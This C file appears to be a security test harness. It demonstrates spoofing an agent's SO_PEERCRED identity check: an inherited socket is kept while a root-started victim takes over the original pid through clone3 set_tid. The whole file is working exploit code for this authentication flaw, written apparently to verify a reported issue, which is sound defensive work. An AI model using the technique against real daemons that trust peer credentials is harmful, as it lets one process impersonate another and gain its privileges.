/* Stale SO_PEERCRED + pid reuse (issue 9, item 2), made deterministic with clone3's set_tid.
 *
 * stale_peer attack SOCK UID FRAMEHEX
 *   P (as UID) connects to the agent at SOCK, forks C (which inherits the connection) and
 *   exits; we (root) reap P and start a victim V under P's very pid (clone3 set_tid); then C
 *   sends FRAMEHEX (a Register) on the inherited connection, as if it were P.
 *   Prints "victim V response HEX" (HEX: the response body), then waits for stdin to close,
 *   kills V and exits. Prints "reuse-failed ERRNO" if the pid could not be taken over.
 * stale_peer send SOCK FRAMEHEX
 *   Sends one frame on a fresh connection and prints "response HEX".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int connect_agent(const char *path) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof a) != 0) {
        perror("connect");
        exit(2);
    }
    return fd;
}

static size_t unhex(const char *hex, unsigned char *out, size_t max) {
    size_t n = 0;
    for (; hex[0] && hex[1] && n < max; hex += 2) sscanf(hex, "%2hhx", &out[n++]);
    return n;
}

static int read_full(int fd, void *buf, size_t len) {
    size_t done = 0;
    while (done < len) {
        ssize_t r = read(fd, (char *)buf + done, len - done);
        if (r <= 0) return -1;
        done += r;
    }
    return 0;
}

/* One request, one response; the response body (at most `max` bytes) into out. */
static int exchange(int fd, const char *framehex, unsigned char *out, size_t max) {
    unsigned char frame[4096];
    size_t n = unhex(framehex, frame, sizeof frame);
    if (write(fd, frame, n) != (ssize_t)n) return -1;
    uint32_t len;
    if (read_full(fd, &len, 4) != 0 || len > max) return -1;
    if (read_full(fd, out, len) != 0) return -1;
    return (int)len;
}

static void print_hex(const unsigned char *b, int n) {
    for (int i = 0; i < n; i++) printf("%02x", b[i]);
}

struct clone3_args {
    uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size,
        cgroup;
};

int main(int argc, char **argv) {
    unsigned char body[4096];
    if (argc == 4 && strcmp(argv[1], "send") == 0) {
        int fd = connect_agent(argv[2]);
        int n = exchange(fd, argv[3], body, sizeof body);
        printf("response ");
        if (n > 0) print_hex(body, n);
        printf("\n");
        return 0;
    }
    if (argc != 5 || strcmp(argv[1], "attack") != 0) {
        fprintf(stderr, "usage: stale_peer attack SOCK UID FRAMEHEX | stale_peer send SOCK FRAMEHEX\n");
        return 2;
    }
    uid_t uid = (uid_t)atoi(argv[3]);
    int go[2], res[2];
    if (pipe(go) != 0 || pipe(res) != 0) return 2;
    pid_t p = fork();
    if (p == 0) {
        if (setgid(uid) != 0 || setuid(uid) != 0) _exit(2);
        int fd = connect_agent(argv[2]);
        pid_t c = fork();
        if (c == 0) {
            char g;
            close(go[1]);
            if (read(go[0], &g, 1) != 1) _exit(0);
            int n = exchange(fd, argv[4], body, sizeof body);
            if (n < 0) n = 0;
            (void)!write(res[1], &n, sizeof n);
            (void)!write(res[1], body, n);
            _exit(0);
        }
        _exit(c > 0 ? 0 : 3);
    }
    close(res[1]);
    int st;
    if (waitpid(p, &st, 0) != p || !WIFEXITED(st) || WEXITSTATUS(st) != 0) return 3;
    /* P is reaped: its pid is free. A root process takes it. */
    pid_t want = p;
    struct clone3_args ca = {0};
    ca.exit_signal = SIGCHLD;
    ca.set_tid = (uint64_t)(uintptr_t)&want;
    ca.set_tid_size = 1;
    long v = syscall(SYS_clone3, &ca, sizeof ca);
    if (v == 0) {
        for (;;) pause();
    }
    if (v < 0) {
        printf("reuse-failed %d\n", errno);
        fflush(stdout);
        (void)!write(go[1], "g", 1);
        return 0;
    }
    (void)!write(go[1], "g", 1);
    int n = 0;
    if (read_full(res[0], &n, sizeof n) != 0 || n < 0 || n > (int)sizeof body || read_full(res[0], body, n) != 0)
        n = 0;
    printf("victim %ld response ", v);
    print_hex(body, n);
    printf("\n");
    fflush(stdout);
    char buf[64];
    while (read(0, buf, sizeof buf) > 0) {
    }
    kill((pid_t)v, SIGKILL);
    waitpid((pid_t)v, &st, 0);
    return 0;
}
